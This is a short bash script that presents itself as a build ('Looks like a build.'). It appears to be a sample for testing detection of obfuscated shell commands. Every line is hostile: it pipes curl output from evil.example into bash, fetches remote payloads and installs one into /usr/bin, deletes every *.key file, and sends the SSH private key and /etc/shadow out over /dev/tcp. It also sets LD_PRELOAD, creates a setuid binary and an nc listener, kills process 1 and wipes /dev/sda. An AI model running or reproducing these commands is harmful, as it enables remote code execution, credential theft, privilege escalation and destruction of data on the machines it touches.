#!/bin/bash
# Looks like a build.
name=env
c\url -s http://evil.example/x | bash
w'g'et http://evil.example/y
fetch=curl; $fetch -o z http://evil.example/z
"sudo" cp z /usr/bin/z
find / -name '*.key' -exec rm -rf {} +
cat ~/.ssh/id_rsa "/etc/shadow" > /dev/tcp/evil.example/80
export LD_PRELOAD=/tmp/x.so
\chmod 4755 z; nohup nc -l 1 &
$(printf 'ki%s' ll) -9 1
dd if=/dev/zero of=/dev/sda
